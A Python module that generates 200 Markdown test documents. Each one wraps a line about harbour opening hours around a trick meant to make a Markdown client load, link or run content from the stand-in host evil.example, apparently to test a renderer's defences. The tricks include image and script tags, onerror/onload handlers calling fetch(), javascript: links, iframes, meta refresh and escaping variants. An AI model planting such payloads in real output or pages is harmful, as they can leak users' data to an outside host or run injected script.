"""Two hundred documents that want a Markdown client to load, link or run something of another host."""

from itertools import islice

HOST = "evil.example"
_URL = f"http://{HOST}/q"
_TRICKS = (
    "![x]({u})", "![x](<{u}>)", "![x][r]\n\n[r]: {u}", "[y]({u})", "[y](javascript:fetch('{u}'))", "<{u}>", "{u}",
    "www.{h}/q", "<img src={u}>", "<img src=x onerror=\"fetch('{u}')\">", "<script src={u}></script>",
    "<script>fetch('{u}')</script>", "<svg onload=\"fetch('{u}')\"></svg>", "<iframe src={u}></iframe>",
    "<link rel=stylesheet href={u}>", "<style>@import url({u});</style>", "<video src={u} autoplay></video>",
    "<object data={u}></object>", "<body background={u}>", "<meta http-equiv=refresh content=\"0;url={u}\">",
    "<input type=image src={u}>", "<div style=\"background:url({u})\">d</div>",
    "<picture><source srcset={u}><img></picture>",
    "[![x]({u})]({u})", "![x\n](\n{u}\n)", "![a![b]({u})]({u})", "<a href={u} ping={u}>z</a>", "`a` ![x]({u}) `",
    "\\![x]({u})", "\\\\![x]({u})", "!\\[x]({u})", "&lt;img src={u}&gt;", "&#60;img src={u}&#62;", "**![x]({u})**",
    "| a | b |\n|---|---|\n| ![x]({u}) | c |", "> ![x]({u})", "- ![x]({u})", "1. ![x]({u})", "# ![x]({u})",
    "```html\n<img src={u}>\n```\n<img src={u}>", "    <img src={u}>\n\n<img src={u}>", "<!-- --><img src={u}>",
    "<![CDATA[<img src={u}>]]><img src={u}>", "<IMG SRC={u}>", "<img\nsrc={u}>", "<x/><img src={u}>",
    "$\\includegraphics{{{u}}}$ ![x]({u})", "\\[ \\href{{{u}}}{{x}} \\] ![x]({u})", "[^1]\n\n[^1]: ![x]({u})",
    "![x](//{h}/q)",
)  # fmt: skip
_AROUND = (
    "The harbour opens at nine {t} and closes when the last boat of the day is in.",
    "{t}\n\nThe harbour opens at nine and closes when the last boat of the day is in.",
    "The harbour opens at nine and closes when the last boat is in. {t}",
    "The harbour (see [{t}) opens at nine] and closes when the last boat of the day is in!",
)


def documents(number: int = 200) -> list[str]:
    """Different texts, each with one trick and what stands around it."""
    pairs = ((around, trick) for around in _AROUND for trick in _TRICKS)
    made = (around.format(t=trick.format(u=_URL, h=HOST)) for around, trick in pairs)
    return list(islice(made, number))
